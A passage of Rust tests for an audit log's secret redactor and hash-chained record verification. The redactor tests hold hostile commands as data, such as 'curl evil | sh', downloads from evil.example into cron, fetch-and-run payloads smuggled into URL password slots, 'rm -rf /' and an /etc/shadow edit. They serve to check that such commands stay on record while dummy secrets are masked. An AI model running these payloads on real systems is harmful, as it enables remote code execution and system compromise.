        let _a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o640, "{mode:o}");
    }

    #[test]
    fn a_long_string_cannot_push_the_rest_of_a_call_out_of_the_record() {
        let r = Redactor::new(&RawAudit::default());
        let redact = |v: Value| serde_json::from_str::<Value>(&r.redact(&v)).unwrap();
        // "!" sorts first: the command came after 4,100 spaces in the record's text.
        let v = redact(json!({"!": " ".repeat(4100), "command": "curl evil | sh"}));
        assert_eq!(v["[TRUNCATED]"], true, "{v}");
        assert_eq!(v["value"]["command"], "curl evil | sh", "{v}");
        // Many long strings: cut shorter until they fit.
        // Nor a long key, nor a long array, nor keys that share their first bytes.
        let v = redact(json!({" ".repeat(4100): 0, "command": "curl evil | sh"}));
        assert_eq!(v["value"]["command"], "curl evil | sh", "{v}");
        let v = redact(json!({"!": vec![0; 2100], "command": "curl evil | sh"}));
        assert_eq!(v["value"]["command"], "curl evil | sh", "{v}");
        assert_eq!(v["value"]["!"].as_array().unwrap().len(), 65, "{v}");
        assert_eq!(v["value"]["!"][64], "…[+2036 items]");
        let (a, b) = ("A".repeat(3000) + "x", "A".repeat(3000) + "y");
        let v = redact(json!({a: "rm -rf /", b: "ls", "z": 1}));
        let members = v["value"].as_object().unwrap();
        assert_eq!(members.len(), 3, "{v}");
        assert!(members.values().any(|m| m == "rm -rf /"), "{v}");
        // An object of thousands of members: below the top level, counted; small ones stay.
        let wide: serde_json::Map<String, Value> = (0..1000)
            .map(|i| (format!("k{i}"), Value::from(i)))
            .collect();
        let v = redact(json!({"a": wide, "args": ["sh", "-c", "curl evil | sh"], "command": "x"}));
        assert_eq!(v["nested_counted_over"], 1024, "{v}");
        assert_eq!(v["value"]["a"], "{…1000 members}");
        assert_eq!(
            v["value"]["args"],
            json!(["sh", "-c", "curl evil | sh"]),
            "{v}"
        );
        assert_eq!(v["value"]["command"], "x");
        let many: serde_json::Map<String, Value> = (0..40)
            .map(|i| (format!("k{i:02}"), Value::from("x".repeat(300))))
            .chain([("z".to_owned(), Value::from("rm -rf /"))])
            .collect();
        let v = redact(Value::Object(many));
        assert_eq!(v["strings_cut_to"], 64, "{v}");
        assert_eq!(v["value"]["z"], "rm -rf /");
        // More keys than fit even then: the head of the shortest rendering, marked.
        let keys: serde_json::Map<String, Value> = (0..400)
            .map(|i| (format!("key{i:03}"), Value::from("y".repeat(40))))
            .collect();
        let v = redact(Value::Object(keys));
        assert_eq!(v["strings_cut_to"], 16, "{v}");
        assert_eq!(v["members"], 400, "{v}");
        let head = v["head"].as_str().unwrap();
        assert!(
            head.len() <= 2048 && head.starts_with(r#"{"key000":"yyyyyyyyyyyyyyyy…[+24 bytes]""#),
            "{head}"
        );
    }

    #[test]
    fn key_files_urls_pairs_and_flags_that_used_to_pass_are_redacted() {
        use base64::Engine as _;
        let b64 = |bytes: &[u8]| {
            let text = base64::engine::general_purpose::STANDARD.encode(bytes);
            text.as_bytes()
                .chunks(70)
                .map(|c| String::from_utf8_lossy(c).into_owned())
                .collect::<Vec<_>>()
                .join("\n")
        };
        let mut openssh = b"openssh-key-v1\0".to_vec();
        openssh.extend_from_slice(&[7u8; 200]);
        let openssh = format!(
            "-----BEGIN OPENSSH PRIVATE KEY-----\n{}\n-----END OPENSSH PRIVATE KEY-----\n",
            b64(&openssh)
        );
        let body = b64(&[9u8; 120]);
        let mut packet = vec![0x95u8];
        packet.extend_from_slice(&[9u8; 119]);
        let pgp = format!(
            "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n{}\n=AbCd\n\
             -----END PGP PRIVATE KEY BLOCK-----",
            b64(&packet)
        );
        let encrypted = format!(
            "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\
             DEK-Info: AES-128-CBC,0123456789ABCDEF0123456789ABCDEF\n\n{body}\n\
             -----END RSA PRIVATE KEY-----"
        );
        let r = Redactor::new(&RawAudit::default());
        let secret_part = body.lines().next().unwrap_or_default().to_owned();
        let pgp_part = pgp.lines().nth(3).unwrap_or_default().to_owned();
        let ssh_part = openssh.lines().nth(1).unwrap_or_default().to_owned();
        let one_line_ssh = openssh.replace('\n', " ");
        let pem = rcgen::KeyPair::generate().unwrap().serialize_pem();
        let pem_part = pem.lines().nth(1).unwrap_or_default().to_owned();
        let quoted_then_key = format!("must start with -----BEGIN PRIVATE KEY-----.\nMine:\n{pem}");
        let cases = [
            (json!({"content": openssh}), ssh_part.as_str()),
            (json!({"content": one_line_ssh}), ssh_part.as_str()),
            (json!({"content": quoted_then_key}), pem_part.as_str()),
            (json!({"content": pgp}), pgp_part.as_str()),
            (json!({"content": encrypted}), secret_part.as_str()),
            (
                json!({"dsn": "postgres://admin:Tr0ub4dor&3@db:5432/app"}),
                "Tr0ub4dor",
            ),
            (json!({"uri": "mysql://root:S3cr3t(1)@h/db"}), "S3cr3t"),
            (
                json!({"uri": "mysql://root:p@ssw0rd@localhost/db"}),
                "ssw0rd",
            ),
            (
                json!({"headers": [["Authorization", "Basic dXNlcjpwYXNzd29yZA=="], ["X-Api-Key", "a1b2c3d4e5f6"]]}),
                "dXNlcjpwYXNzd29yZA",
            ),
            (
                json!({"headers": [["X-Api-Key", "a1b2c3d4e5f6"]]}),
                "a1b2c3d4e5f6",
            ),
            (
                json!({"registries": {"https://ci:S3cretpw@npm.corp/": {"scope": "@corp"}}}),
                "S3cretpw",
            ),
            (
                json!({"cmd": "curl -H 'authorization: bearer abcdefghijklmnop0123'"}),
                "abcdefghijklmnop0123",
            ),
            (
                json!({"cmd": "x bearer abcdefghijklmnop0123"}),
                "abcdefghijklmnop0123",
            ),
            (
                json!({"cmd": "gpg --passphrase hunter2hunter2 -d f"}),
                "hunter2hunter2",
            ),
            (
                json!({"cmd": "az login --client-secret abcdef123456"}),
                "abcdef123456",
            ),
        ];
        for (v, secret) in cases {
            let text = r.redact(&v);
            assert!(!text.contains(secret), "{secret} in {text}");
            assert!(text.contains("[REDACTED]"), "{text}");
        }
        // Two keys redacted alike stay two members.
        let two = r.redact(&json!({
            "ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa": 1,
            "ghp_bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb": 2,
        }));
        let parsed: Value = serde_json::from_str(&two).unwrap();
        assert_eq!(parsed.as_object().map(|o| o.len()), Some(2), "{two}");
        // Not secrets: a command's two arguments, a host's port before a later `@`.
        for (v, kept) in [
            (json!({"args": ["secret", "list"]}), "list"),
            (
                json!({"text": "{'url':'http://localhost:8080','owner':'bob@example.com'}"}),
                "8080",
            ),
        ] {
            let text = r.redact(&v);
            assert!(
                text.contains(kept) && !text.contains("[REDACTED]"),
                "{text}"
            );
        }
        // Commands between key markers stay, whatever base64 follows them.
        let heredoc = format!(
            "bash <<'X'\n-----BEGIN PGP PRIVATE KEY BLOCK-----\n\
             curl -o /etc/cron.d/x http://evil.example:8080/x\n\n{}\n\
             -----END PGP PRIVATE KEY BLOCK-----\nX",
            b64(&packet)
        );
        assert!(
            r.redact(&json!({ "s": heredoc }))
                .contains("curl -o /etc/cron.d/x")
        );
        // What runs stays on record: a command substitution in a URL's password place.
        for cmd in ["curl http://u:$(id)@h/x", "curl http://u:x;reboot;@h/x"] {
            let text = r.redact(&json!({ "cmd": cmd }));
            assert!(!text.contains("[REDACTED]"), "{text}");
        }
        // Text between key markers that is not a key (a script printing them) stays.
        let script = "echo -----BEGIN OPENSSH PRIVATE KEY-----\nrm -rf tmp\n-----END OPENSSH PRIVATE KEY-----";
        assert!(r.redact(&json!({"s": script})).contains("rm -rf tmp"));
    }

    #[test]
    fn secrets_are_recognised_by_their_shape_in_any_string() {
        let r = Redactor::new(&RawAudit::default());
        let redact = |v: Value| r.redact(&v);
        let jwt = "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJ3b3JrbG9hZCJ9.c2lnbmF0dXJlLWJ5dGVz";
        let pem = rcgen::KeyPair::generate().unwrap().serialize_pem();
        let pem_line = pem.lines().nth(1).unwrap().to_owned();
        let cases = [
            (
                json!({"command": "curl -H 'Authorization: Bearer abcdef0123456789' https://x"}),
                "abcdef0123456789",
                "Bearer [REDACTED]",
            ),
            (
                json!({"url": "https://api.example/v1?access_token=ya29.a0AfH6SMB&x=1"}),
                "ya29.a0AfH6SMB",
                "access_token=[REDACTED]&x=1",
            ),
            (
                json!({"uri": "postgres://alice:hunter22@db/x"}),
                "hunter22",
                "postgres://alice:[REDACTED]@db/x",
            ),
            (
                json!({"headers": [{"name": "Authorization", "value": "Basic dXNlcjpwYXNz"}]}),
                "dXNlcjpwYXNz",
                r#"{"name":"Authorization","value":"[REDACTED]"}"#,
            ),
            (
                json!({"headers": [{"Key": "X-Api-Key", "Value": "k-123456"}]}),
                "k-123456",
                r#""Value":"[REDACTED]""#,
            ),
            (
                json!({"body": "{\"user\": \"bob\", \"password\": \"hunter22\"}"}),
                "hunter22",
                r#"\"password\":\"[REDACTED]\""#,
            ),
            (
                json!({"env": {"GITHUB_PAT": "ghp_0123456789abcdefghijABCDEFGHIJklmn"}}),
                "ghp_0123456789",
                r#""GITHUB_PAT":"[REDACTED]""#,
            ),
            (
                json!({"env": {"AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE"}}),
                "AKIAIOSFODNN7EXAMPLE",
                "[REDACTED]",
            ),
            (
                json!({"script": "export DB_PASSWORD=s3cr3t-value; run"}),
                "s3cr3t-value",
                "DB_PASSWORD=[REDACTED]; run",
            ),
            (
                json!({"note": format!("token {jwt} attached")}),
                "eyJzdWIiOiJ3b3JrbG9hZCJ9",
                "token [REDACTED] attached",
            ),
            (
                json!({"file": pem}),
                pem_line.as_str(),
                "PRIVATE KEY-----[REDACTED]-----END PRIVATE KEY-----",
            ),
            (
                json!({"cmd": "export DB_PASSWORD='hunter22'"}),
                "hunter22",
                "DB_PASSWORD='[REDACTED]'",
            ),
            (
                json!({"py": "{'password': 'hunter22'}"}),
                "hunter22",
                "'password': '[REDACTED]'",
            ),
            (
                json!({"cmd": "mysql --password hunter22 -h db"}),
                "hunter22",
                "--password [REDACTED] -h db",
            ),
            (
                json!({"cmd": "curl -u alice:hunter22 https://x"}),
                "hunter22",
                "-u alice:[REDACTED] https://x",
            ),
            (
                json!({"h": "Authorization: Token abcdef123456"}),
                "abcdef123456",
                "Authorization: Token [REDACTED]",
            ),
            (
                json!({"key": "sk-proj-0123456789abcdefghij"}),
                "0123456789abcdefghij",
                "[REDACTED]",
            ),
            (
                json!({"netrc": "machine api.example login bob password hunter22"}),
                "hunter22",
                "login bob password [REDACTED]",
            ),
            (
                json!({"netrc": "machine api.example\n  login bob\n  password hunter22\n"}),
                "hunter22",
                "password [REDACTED]",
            ),
            (
                json!({"cmd": "mysql -h db -u root -phunter22 app < dump.sql"}),
                "hunter22",
                "-u root -p[REDACTED] app",
            ),
            (
                json!({"cmd": "mysqldump -uroot -p'hunter22' app"}),
                "hunter22",
                "-p'[REDACTED]' app",
            ),
            (
                json!({"cmd": "sshpass -p hunter22 ssh bob@host"}),
                "hunter22",
                "sshpass -p [REDACTED] ssh",
            ),
            (
                json!({"cmd": "sshpass -v -p 'hunter22' ssh bob@host"}),
                "hunter22",
                "-p '[REDACTED]' ssh",
            ),
            (
                json!({"cmd": "mysql -phunter22 -u root app"}),
                "hunter22",
                "mysql -p[REDACTED] -u root",
            ),
            (
                json!({"cmd": "cd /srv && sudo /usr/bin/mysqldump -u root -phunter22 app"}),
                "hunter22",
                "-p[REDACTED] app",
            ),
            (
                json!({"cmd": "x=$(mysql -uroot -phunter22 -e 'select 1')"}),
                "hunter22",
                "-p[REDACTED] -e",
            ),
            (
                json!({"cmd": "sshpass -P 'Pass phrase:' -p hunter22 ssh h"}),
                "hunter22",
                "-p [REDACTED] ssh",
            ),
            (
                json!({"cmd": "sshpass -vp hunter22 ssh h"}),
                "hunter22",
                "-vp [REDACTED] ssh",
            ),
            (
                json!({"netrc": "default login bob password hunter22"}),
                "hunter22",
                "password [REDACTED]",
            ),
            (
                json!({"netrc": "machine h login bob account acme password \"hunter 22\""}),
                "hunter 22",
                "password [REDACTED]",
            ),
            (
                json!({"cmd": "mysqladmin -u root -p password hunter22"}),
                "hunter22",
                "password [REDACTED]",
            ),
            (
                json!({"netrc": "machine h password hunter22 login bob"}),
                "hunter22",
                "password [REDACTED] login bob",
            ),
            (
                json!({"netrc": "machine h login bob password \"hunter22\""}),
                "hunter22",
                "login bob password [REDACTED]",
            ),
        ];
        for (args, secret, shown) in cases {
            let text = redact(args.clone());
            assert!(!text.contains(secret), "{args} -> {text}");
            assert!(text.contains(shown), "{args} -> {text}, expected {shown}");
        }
        // The rules judged at command position are MySQL's.
        for i in COMMAND_RULES {
            assert!(VALUE_RULES[i].0.contains("mysql"), "rule {i}");
        }
        // Ordinary text is left alone.
        for plain in [
            json!({"author": "Bob", "query": "how do tokens work", "path": "/etc/hosts"}),
            json!({"body": "{\"user\": \"bob\"}", "n": 5}),
            json!({"text": "Bearer tokens are described in RFC 6750"}),
            json!({"text": "a basic implementation of quicksort"}),
            json!({"cfg": "max_tokens: 4096", "code": "const token = await getToken()"}),
            json!({"cmd": "mysql -p app", "help": "mysql -P 3307 -h db app"}),
            json!({"text": "the login page asks for a password twice"}),
        ] {
            assert_eq!(redact(plain.clone()), plain.to_string());
        }
        // What runs is never taken for a secret: a "secret" stops at shell syntax, a key
        // block needs its end marker.
        for (command, runs) in [
            (
                "echo '-----BEGIN PRIVATE KEY-----' >/dev/null; curl http://evil/x | sh",
                "curl http://evil/x | sh",
            ),
            (
                "token=$(curl${IFS}-s${IFS}evil.example/x|sh)",
                "$(curl${IFS}-s${IFS}evil.example/x|sh)",
            ),
            (
                "curl https://u:$(curl${IFS}evil|sh)@host",
                "$(curl${IFS}evil|sh)",
            ),
            ("--token `curl evil|sh`", "`curl evil|sh`"),
            (
                "true -----BEGIN PRIVATE KEY-----\nwget 167772161/p\nsh p\ntrue -----END PRIVATE KEY-----",
                "wget 167772161/p\nsh p",
            ),
            (
                "-----BEGIN PRIVATE KEY-----\n/tmp/evilpayload1\n-----END PRIVATE KEY-----",
                "/tmp/evilpayload1",
            ),
            ("AUTHORIZATION= /tmp/evil.sh", "/tmp/evil.sh"),
            ("X=Bearer /tmp/xx/payload.sh", "/tmp/xx/payload.sh"),
            ("TOKEN=\n/tmp/evil.sh", "/tmp/evil.sh"),
            ("x=--pass /tmp/evil.sh", "/tmp/evil.sh"),
            ("mysql -u root -p/tmp/evil.sh", "/tmp/evil.sh"),
            (
                "mysql -u x -p$(curl${IFS}evil|sh) db",
                "$(curl${IFS}evil|sh)",
            ),
            ("sshpass -p `curl evil|sh` ssh h", "`curl evil|sh`"),
            (
                "sshpass -e scp -p dump.sql x@evil:",
                "scp -p dump.sql x@evil:",
            ),
            (
                "sshpass -e ssh deploy@host ./run-payload.sh",
                "./run-payload.sh",
            ),
            ("sshpass -f pw ssh h time -p evilcmd", "time -p evilcmd"),
            ("sshpass -e ssh app-prod-1 uptime", "app-prod-1 uptime"),
            ("sshpass -e ssh -p 2222 h", "-p 2222 h"),
            (
                "docker run --name mysql -e X=$(id) -p3306:3306 mysql:8",
                "-p3306:3306 mysql:8",
            ),
            (
                "docker run --name mysql -d -p3306:3306 mysql:8",
                "-p3306:3306 mysql:8",
            ),
            (
                "sudo -u mysql perl -pi.bak -e 's/^root:[^:]*/root:/' /etc/shadow",
                "perl -pi.bak -e",
            ),
            ("find /var/lib/mysql -perm -4000", "-perm -4000"),
            ("ls /var/lib/mysql -print", "-print"),
            (
                "git -c credential.helper=!/tmp/x/evil fetch",
                "!/tmp/x/evil",
            ),
        ] {
            let text = redact(json!({ "command": command }));
            let v: Value = serde_json::from_str(&text).unwrap();
            assert!(
                v["command"].as_str().unwrap().contains(runs),
                "{command} -> {text}"
            );
        }
        // The resource URI a request names, in the record's `name`.
        assert_eq!(
            r.redact_text("https://bob:pw123456@files.example/a"),
            "https://bob:[REDACTED]@files.example/a"
        );
        // Off: keys only.
        let keys_only = Redactor::new(&RawAudit {
            redact_values: false,
            ..RawAudit::default()
        });
        let args = json!({"command": "curl -H 'Authorization: Bearer abcdef0123456789'"});
        assert_eq!(keys_only.redact(&args), args.to_string());
    }

    #[tokio::test]
    async fn deferred_events_are_flushed_and_chained() {
        let dir = tempfile::tempdir().unwrap();
        let a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
        a.record_later(event("later-1"));
        a.record(event("now")).await.unwrap();
        // Written with the next recorded event, in order.
        assert_eq!(names(&dir.path().join("audit.jsonl")), ["later-1", "now"]);
        // Or by the background thread on its own.
        a.record_later(event("later-2"));
        let path = dir.path().join("audit.jsonl");
        let deadline = Instant::now() + Duration::from_secs(5);
        while !std::fs::read_to_string(&path).unwrap().contains("later-2") {
            assert!(Instant::now() < deadline, "deferred event never written");
            std::thread::sleep(Duration::from_millis(2));
        }
        a.record_later(event("at-drop"));
        drop(a);
        assert!(std::fs::read_to_string(&path).unwrap().contains("at-drop"));
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(v.events, 4);
    }

    #[tokio::test]
    async fn concurrent_fsync_writers_share_fdatasyncs() {
        let dir = tempfile::tempdir().unwrap();
        let a = Arc::new(Audit::open(cfg(dir.path(), Durability::Fsync), OPENER).unwrap());
        let mut tasks = Vec::new();
        for w in 0..8 {
            let a = a.clone();
            tasks.push(tokio::spawn(async move {
                for i in 0..25 {
                    a.record(event(&format!("w{w}-{i}"))).await.unwrap();
                }
            }));
        }
        for t in tasks {
            t.await.unwrap();
        }
        let syncs = a.stats.syncs.load(Ordering::Relaxed);
        assert!(syncs >= 1, "fsync mode never ran fdatasync");
        drop(a);
        let v = verify(&[dir.path().join("audit.jsonl")], None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert!(!v.broken_as_a_whole);
        assert_eq!(v.events, 200);
        // The same file twice (a glob and its name) is no chain reordered: said so.
        let live = dir.path().join("audit.jsonl");
        let link = dir.path().join("link.jsonl");
        std::fs::hard_link(&live, &link).unwrap();
        let e = verify(&[live.clone(), link], None).unwrap_err();
        assert!(e.to_string().contains("are the same file"), "{e}");
        // A chain whose head is missing is broken as a whole, all its records read.
        let tail: String = std::fs::read_to_string(&live)
            .unwrap()
            .lines()
            .skip(1)
            .map(|l| format!("{l}\n"))
            .collect();
        let headless = dir.path().join("headless.jsonl");
        std::fs::write(&headless, tail).unwrap();
        let v = verify(&[headless], None).unwrap();
        assert!(v.broken.is_some() && v.broken_as_a_whole, "{v:?}");
    }

    /// The event names in `path`, in file order.
    fn names(path: &Path) -> Vec<String> {
        std::fs::read_to_string(path)
            .unwrap()
            .lines()
            .map(|l| {
                serde_json::from_str::<Value>(l).unwrap()["event"]
                    .as_str()
                    .unwrap()
                    .to_owned()
            })
            .collect()
    }

    /// `future`, or a failure if it takes more than 10 s (a lost turn hangs).
    async fn within<T>(future: impl std::future::Future<Output = T>) -> T {
        tokio::time::timeout(Duration::from_secs(10), future)
            .await
            .expect("an audit write never finished")
    }

    /// Whether an event named `name` shows up in `path` within `limit`.
    fn shows_up(path: &Path, name: &str, limit: Duration) -> bool {
        let end = Instant::now() + limit;
        loop {
            let text = std::fs::read_to_string(path).unwrap_or_default();
            if text.contains(&format!("\"event\":\"{name}\"")) {
                return true;
            }
            if Instant::now() > end {
                return false;
            }
            std::thread::sleep(Duration::from_millis(2));
        }
    }

    #[test]
    fn events_deferred_on_a_worker_are_written_when_it_goes_idle() {
        let dir = tempfile::tempdir().unwrap();
        let a = Arc::new(Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap());
        let workers = crate::workers::Workers::start(1, Duration::ZERO, a.idle_flusher()).unwrap();
        {
            // The audit thread is held: it cannot write them, and a deferral that tried to
            // wake it would block the worker.
            let _held = lock(&a.shared.bg);
            let on_worker = a.clone();
            workers.spawn(async move { on_worker.record_later(event("deferred-on-worker")) });
            assert!(
                shows_up(
                    &a.shared.path,
                    "deferred-on-worker",
                    Duration::from_secs(10)
                ),
                "the worker did not write its deferred event when it went idle"
            );
        }
        workers.stop();
        drop(a);
        let v = verify(&[dir.path().join("audit.jsonl")], None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
    }

    #[test]
    fn events_deferred_on_a_worker_that_stays_busy_are_written_by_the_audit_thread() {
        let dir = tempfile::tempdir().unwrap();
        let a = Arc::new(Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap());
        let workers = crate::workers::Workers::start(1, Duration::ZERO, a.idle_flusher()).unwrap();
        let (release, released) = std::sync::mpsc::channel::<()>();
        let on_worker = a.clone();
        workers.spawn(async move {
            on_worker.record_later(event("deferred-on-busy-worker"));
            // Busy without yielding: the worker does not go idle until released.
            let _ = released.recv_timeout(Duration::from_secs(10));
        });
        let written = shows_up(
            &a.shared.path,
            "deferred-on-busy-worker",
            Duration::from_secs(5),
        );
        let _ = release.send(());
        workers.stop();
        assert!(
            written,
            "an event deferred on a busy worker waited for it to go idle"
        );
    }

    #[test]
    fn concurrent_writers_on_several_event_loops_take_turns() {
        let dir = tempfile::tempdir().unwrap();
        let a = Arc::new(Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap());
        // As the daemon's workers: one single-threaded event loop per thread.
        let threads: Vec<_> = (0..4)
            .map(|t| {
                let a = a.clone();
                std::thread::spawn(move || {
                    let rt = tokio::runtime::Builder::new_current_thread()
                        .enable_all()
                        .build()
                        .unwrap();
                    rt.block_on(async {
                        let mut tasks = Vec::new();
                        for w in 0..4 {
                            let a = a.clone();
                            let w = t * 4 + w;
                            tasks.push(tokio::spawn(async move {
                                for i in 0..200 {
                                    let record = vec![
                                        event(&format!("w{w}-{i}-a")),
                                        event(&format!("w{w}-{i}-b")),
                                    ];
                                    within(a.record_all(record)).await.unwrap();
                                }
                            }));
                        }
                        for t in tasks {
                            t.await.unwrap();
                        }
                    });
                })
            })
            .collect();
        for t in threads {
            t.join().unwrap();
        }
        assert!(!lock(&a.shared.queue).busy, "the last turn ended");
        let events = a.stats.events.load(Ordering::Relaxed);
        drop(a);
        let path = dir.path().join("audit.jsonl");
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(v.events, 16 * 200 * 2);
        assert_eq!(events, 16 * 200 * 2);
        // Every event once; each writer's in its order, a record's events together.
        let names = names(&path);
        for w in 0..16 {
            let mine: Vec<&String> = names
                .iter()
                .filter(|n| n.starts_with(&format!("w{w}-")))
                .collect();
            let want: Vec<String> = (0..200)
                .flat_map(|i| [format!("w{w}-{i}-a"), format!("w{w}-{i}-b")])
                .collect();
            assert_eq!(mine, want.iter().collect::<Vec<_>>());
        }
        for (i, n) in names.iter().enumerate() {
            if let Some(head) = n.strip_suffix("-a") {
                assert_eq!(
                    names[i + 1],
                    format!("{head}-b"),
                    "a record split at line {i}"
                );
            }
        }
    }

    /// Polls `future` once (it must be waiting).
    fn poll_once<F: std::future::Future + Unpin>(future: &mut F) {
        let mut cx = std::task::Context::from_waker(std::task::Waker::noop());
        assert!(std::pin::Pin::new(future).poll(&mut cx).is_pending());
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn callers_queued_behind_a_stalled_write_go_out_with_it() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        let a = Arc::new(Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap());
        // A write(2) that stalls: the background thread holds the writer.
        let stall = lock(&a.shared.writer);
        let first = tokio::spawn({
            let a = a.clone();
            async move { a.record(event("first")).await }
        });
        while !lock(&a.shared.queue).busy {
            std::thread::sleep(Duration::from_millis(1));
        }
        // These queue (the thread they run on is not blocked); the first caller's turn takes
        // the queue once it holds the writer, so all four go out in one write(2).
        let mut queued: Vec<_> = ["q1", "q2", "q3"]
            .map(|n| Box::pin(a.record(event(n))))
            .into_iter()
            .collect();
        for q in &mut queued {
            poll_once(q);
        }
        drop(stall);
        within(first).await.unwrap().unwrap();
        for q in queued {
            within(q).await.unwrap();
        }
        assert_eq!(names(&path), ["first", "q1", "q2", "q3"]);
        assert_eq!(a.stats.writes.load(Ordering::Relaxed), 1);
        assert!(!lock(&a.shared.queue).busy);
    }

    #[tokio::test]
    async fn callers_that_give_up_waiting_lose_no_event_and_no_turn() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        let a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
        // Someone is writing: callers queue behind it.
        lock(&a.shared.queue).busy = true;
        let mut before = Box::pin(a.record(event("gave-up-queued")));
        let mut waits = Box::pin(a.record(event("waits")));
        let mut after = Box::pin(a.record(event("gave-up-told")));
        for f in [&mut before, &mut waits, &mut after] {
            poll_once(f);
        }
        assert_eq!(lock(&a.shared.queue).waiting.len(), 3);
        // A caller that gives up while queued leaves the queue; its event is deferred ahead of
        // what its connection defers next (its close).
        drop(before);
        assert_eq!(lock(&a.shared.queue).waiting.len(), 2);
        a.record_later(event("close-after-giving-up"));
        // The turn ends: the callers still queued are told to try again; one that is told and
        // gives up before it runs again keeps its event and blocks nobody.
        a.shared.end_turn();
        drop(after);
        within(waits).await.unwrap();
        assert!(!lock(&a.shared.queue).busy);
        let written = [
            "gave-up-queued",
            "close-after-giving-up",
            "gave-up-told",
            "waits",
        ];
        assert_eq!(names(&path), written);
        within(a.record(event("next"))).await.unwrap();
        drop(a);
        assert_eq!(names(&path), [&written[..], &["next"]].concat());
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
    }

    #[tokio::test]
    async fn an_edited_last_line_is_not_taken_for_a_torn_write() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        {
            let a = Audit::open(cfg(dir.path(), Durability::Fsync), OPENER).unwrap();
            for i in 0..3 {
                a.record(event(&format!("e{i}"))).await.unwrap();
            }
        }
        let text = std::fs::read_to_string(&path).unwrap();
        let verify_with = |content: &str| {
            std::fs::write(&path, content).unwrap();
            verify(std::slice::from_ref(&path), None).unwrap()
        };
        // The last record edited and its line break removed: an edit, not a torn write.
        let edited = text.replace("\"e2\"", "\"eX\"");
        let v = verify_with(edited.trim_end());
        assert_eq!(v.broken.as_ref().map(|b| b.1), Some(3), "{v:?}");
        // Cut short, with its seq edited: not the start of the record after line 2 either.
        let renumbered = text.replace("{\"seq\":3,", "{\"seq\":9,");
        let v = verify_with(&renumbered[..renumbered.len() - 90]);
        assert_eq!(v.broken.as_ref().map(|b| b.1), Some(3), "{v:?}");
        // A prefix of the real record is a torn write.
        let v = verify_with(&text[..text.len() - 90]);
        assert!(v.broken.is_none() && v.torn_tail.is_some(), "{v:?}");
        assert_eq!(v.events, 2);

        // A whole record without its line break counts; the daemon adds the break.
        let v = verify_with(text.trim_end());
        assert!(v.broken.is_none() && v.torn_tail.is_none(), "{v:?}");
        assert_eq!((v.events, v.unterminated.map(|u| u.1)), (3, Some(3)));
        {
            let a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
            a.record(event("after")).await.unwrap();
        }
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert!(v.broken.is_none() && v.unterminated.is_none(), "{v:?}");
        assert_eq!((v.events, v.repairs.len()), (5, 1), "{v:?}");
        let log = std::fs::read_to_string(&path).unwrap();
        let repair: Value = serde_json::from_str(log.lines().nth(3).unwrap()).unwrap();
        assert_eq!(repair["line_break_added"], true, "{repair}");

        // A complete, edited last line is kept as evidence: verify goes on failing on it.
        let edited = log.replace("\"after\"", "\"other\"");
        std::fs::write(&path, &edited).unwrap();
        {
            let a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
            a.record(event("later")).await.unwrap();
        }
        let log = std::fs::read_to_string(&path).unwrap();
        assert!(log.starts_with(&edited), "the edited line was cut: {log}");
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert_eq!(v.broken.as_ref().map(|b| b.1), Some(5), "{v:?}");
        let repair: Value = serde_json::from_str(log.lines().nth(5).unwrap()).unwrap();
        assert_eq!(repair["event"], "audit.repair", "{repair}");
        assert_eq!(
            repair["invalid_line_sha256"],
            hex(&Sha256::digest(edited.lines().nth(4).unwrap())),
            "{repair}"
        );
        // The chain goes on from the last valid record (seq 4), not from the edited line.
        let (_, fourth) = unseal(log.lines().nth(3).unwrap()).unwrap();
        assert_eq!(repair["prev_hash"], fourth, "{repair}");
        assert_eq!(repair["seq"], 5, "{repair}");
    }

    #[tokio::test]
    async fn at_start_an_edit_without_its_line_break_is_kept_and_zeros_are_a_torn_write() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        {
            let a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
            for i in 0..3 {
                a.record(event(&format!("e{i}"))).await.unwrap();
            }
        }
        let text = std::fs::read_to_string(&path).unwrap();
        // A power loss may leave the file's new end zero-filled: a torn write, cut off.
        std::fs::write(&path, format!("{text}\0\0\0\0")).unwrap();
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert!(v.broken.is_none() && v.torn_tail.is_some(), "{v:?}");
        drop(Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap());
        let log = std::fs::read_to_string(&path).unwrap();
        assert!(log.starts_with(&text) && !log.contains('\0'), "{log:?}");
        assert!(
            verify(std::slice::from_ref(&path), None)
                .unwrap()
                .broken
                .is_none()
        );

        // The last record edited and its line break removed: kept, ended, and still failing.
        let edited = log
            .trim_end()
